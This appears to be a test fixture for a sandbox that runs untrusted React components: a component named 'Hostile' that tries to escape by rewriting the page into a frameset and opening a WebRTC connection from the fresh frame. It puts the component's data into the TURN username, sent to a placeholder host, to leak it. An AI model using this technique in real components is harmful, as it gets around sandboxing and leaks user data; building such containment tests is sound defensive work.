import { useEffect } from "react";

// Escape attempt: webrtc_frameset — document.open() and a frameset, whose frames are fresh realms
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_frameset-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      document.open();
      document.write("<frameset><frame></frameset>");
      document.close();
      const Peer = window.frames[0].RTCPeerConnection;
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_frameset</p>;
}
